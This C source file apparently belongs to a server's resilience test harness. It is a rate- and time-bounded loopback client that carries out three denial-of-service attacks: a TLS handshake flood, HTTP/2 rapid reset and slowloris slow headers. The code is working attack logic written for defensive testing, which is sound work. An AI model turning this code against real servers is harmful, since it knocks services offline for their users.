/* attack PORT RATE SECONDS TARGETS handshakes|resets|heads: a hostile client on loopback, from 127.0.0.2, bounded in
 * rate and time. RATE is of operations a second:
 *
 *     handshakes  a connection that sends a ClientHello, which cost nothing to make, and goes away before it
 *                 answers what the server worked out for it
 *     resets      HTTP/2 rapid reset: a signed request and its cancellation at once, on one connection
 *     heads       one more byte of a head that never ends, on one of 2,000 connections (slowloris)
 *
 * Prints "ready" when it begins, and at its end one line:
 *
 *     figures operations=N answered=N connections=N
 *
 * answered: connections on which the server spoke (handshakes); connections: opened in all. It is late rather
 * than in a burst: what is due is caught up with by no more than 10 ms of it at once. */
#include "client_h2.h"

#include "util/check.h"
#include "util/clock.h"

#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#define FROM        (INADDR_LOOPBACK + 1)
#define TICK_NS     NS_PER_MS
#define BURST_TICKS 10u
#define HELLO_MAX   2048u
#define HELLOS_OPEN 256u
#define HEADS_OPEN  2000u
#define RESETS_MAX  256u /* in one write */
#define REOPEN_MAX  20u  /* connections opened anew in one tick */
#define SECONDS_MAX 600u

static struct {
    uint16_t port;
    SSL_CTX *context;
    struct targets targets;
    uint64_t operations, answered, connections;
} run;

/* ---- A flood of handshakes. */

static struct {
    char hello[HELLO_MAX];
    size_t hello_bytes;
    struct link links[HELLOS_OPEN];
} hellos;

static void begin_hellos(void)
{
    SSL *ssl = SSL_new(run.context);
    BIO *in = BIO_new(BIO_s_mem());
    BIO *out = BIO_new(BIO_s_mem());
    CHECK(ssl && in && out);
    SSL_set_bio(ssl, in, out);
    SSL_set_connect_state(ssl);
    SSL_do_handshake(ssl);
    int n = BIO_read(out, hellos.hello, HELLO_MAX);
    CHECK(n > 0);
    hellos.hello_bytes = (size_t)n;
    SSL_free(ssl);
    for (size_t i = 0; i < HELLOS_OPEN; i++)
        hellos.links[i].fd = -1;
}

static void do_hellos(uint64_t count)
{
    char byte;
    for (uint64_t i = 0; i < count; i++) {
        struct link *link = &hellos.links[run.operations % HELLOS_OPEN];
        if (link->fd >= 0) {
            run.answered += link_read(link, &byte, 1) == 1;
            link_close(link);
        }
        run.operations++;
        if (!link_open(link, NULL, NULL, FROM, run.port))
            continue;
        run.connections++;
        link_set_nonblocking(link);
        link_write(link, hellos.hello, hellos.hello_bytes);
    }
}

/* ---- Rapid reset. */

static struct {
    struct link link;
    uint32_t stream; /* the next; 0: not connected */
    char frames[RESETS_MAX * H2_REQUEST_MAX];
    size_t bytes, written; /* of frames that wait to be sent */
} resets;

static void connect_resets(void)
{
    if (!link_open(&resets.link, run.context, "h2", FROM, run.port))
        return;
    run.connections++;
    link_set_nonblocking(&resets.link);
    resets.bytes = h2_write_preface(resets.frames);
    resets.bytes += h2_write_settings_ack(resets.frames + resets.bytes);
    resets.written = 0;
    resets.stream = 1;
}

static void disconnect_resets(void)
{
    link_close(&resets.link);
    resets.stream = 0;
}

/* Sends what waits. Returns whether all of it is gone. */
static bool flush_resets(void)
{
    while (resets.written < resets.bytes) {
        ssize_t n = link_write(&resets.link, resets.frames + resets.written, resets.bytes - resets.written);
        if (n <= 0) {
            if (n != -1)
                disconnect_resets();
            return false;
        }
        resets.written += (size_t)n;
    }
    resets.bytes = resets.written = 0;
    return true;
}

static void do_resets(uint64_t count)
{
    static char ignored[65536];
    if (!resets.stream)
        connect_resets();
    if (!resets.stream)
        return;
    for (ssize_t n = 1; n > 0;) {
        n = link_read(&resets.link, ignored, sizeof(ignored));
        if (n == 0 || n == -2) {
            disconnect_resets();
            return;
        }
    }
    if (!flush_resets())
        return;
    for (uint64_t i = 0; i < count && i < RESETS_MAX && resets.stream < H2_STREAM_MAX - 2; i++) {
        struct str target = run.targets.lines[run.operations++ % run.targets.count];
        resets.bytes += h2_write_get(resets.frames + resets.bytes, resets.stream, target);
        resets.bytes += h2_write_reset(resets.frames + resets.bytes, resets.stream, H2_ERROR_CANCEL);
        resets.stream += 2;
    }
    flush_resets();
}

/* ---- Slow heads. */

static struct {
    struct link links[HEADS_OPEN];
    size_t next;
} heads;

static void begin_head(struct link *link)
{
    static const char start[] = "GET /tracks/a/320/1.ogg HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ";
    if (!link_open(link, run.context, "http/1.1", FROM, run.port))
        return;
    run.connections++;
    link_set_nonblocking(link);
    link_write(link, start, sizeof(start) - 1);
}

static void begin_heads(void)
{
    for (size_t i = 0; i < HEADS_OPEN; i++)
        begin_head(&heads.links[i]);
}

static void do_heads(uint64_t count)
{
    char ignored[4096];
    unsigned reopened = 0;
    for (uint64_t i = 0; i < count; i++) {
        struct link *link = &heads.links[heads.next];
        heads.next = (heads.next + 1) % HEADS_OPEN;
        if (link->fd >= 0 && link_read(link, ignored, sizeof(ignored)) == -1 &&
            link_write(link, "a", 1) == 1) {
            run.operations++;
        } else if (reopened++ < REOPEN_MAX) {
            link_close(link);
            begin_head(link);
        }
    }
}

/* ---- The rate. */

static void attack(uint64_t rate, uint64_t seconds, void (*operate)(uint64_t count))
{
    uint64_t start_ns = clock_mono_ns();
    uint64_t burst = rate * BURST_TICKS / 1000 + 1;
    for (uint64_t spent = 0;;) {
        uint64_t now_ns = clock_mono_ns();
        if (now_ns - start_ns >= seconds * NS_PER_S)
            return;
        uint64_t due = (now_ns - start_ns) * rate / NS_PER_S;
        uint64_t count = due - spent < burst ? due - spent : burst;
        spent = due;
        if (count > 0)
            operate(count);
        struct timespec tick = {.tv_nsec = (long)TICK_NS};
        nanosleep(&tick, NULL);
    }
}

int main(int argc, char **argv)
{
    if (argc != 6)
        client_fail("usage: attack PORT RATE SECONDS TARGETS handshakes|resets|heads");
    uint64_t rate = (uint64_t)atol(argv[2]);
    uint64_t seconds = (uint64_t)atol(argv[3]);
    const char *kind = argv[5];
    if (seconds > SECONDS_MAX)
        client_fail("at most %u seconds", SECONDS_MAX);
    bool h2 = strcmp(kind, "resets") == 0;
    run.port = (uint16_t)atoi(argv[1]);
    run.targets = client_read_targets(argv[4]);
    run.context = client_tls_context(h2 ? "h2" : "http/1.1");
    void (*operate)(uint64_t count) = h2 ? do_resets : do_heads;
    if (strcmp(kind, "handshakes") == 0) {
        begin_hellos();
        operate = do_hellos;
    } else if (strcmp(kind, "heads") == 0) {
        begin_heads();
    } else if (!h2) {
        client_fail("no attack is called %s", kind);
    }
    printf("ready\n");
    fflush(stdout);
    attack(rate, seconds, operate);
    printf("figures operations=%llu answered=%llu connections=%llu\n", (unsigned long long)run.operations,
           (unsigned long long)run.answered, (unsigned long long)run.connections);
    return 0;
}
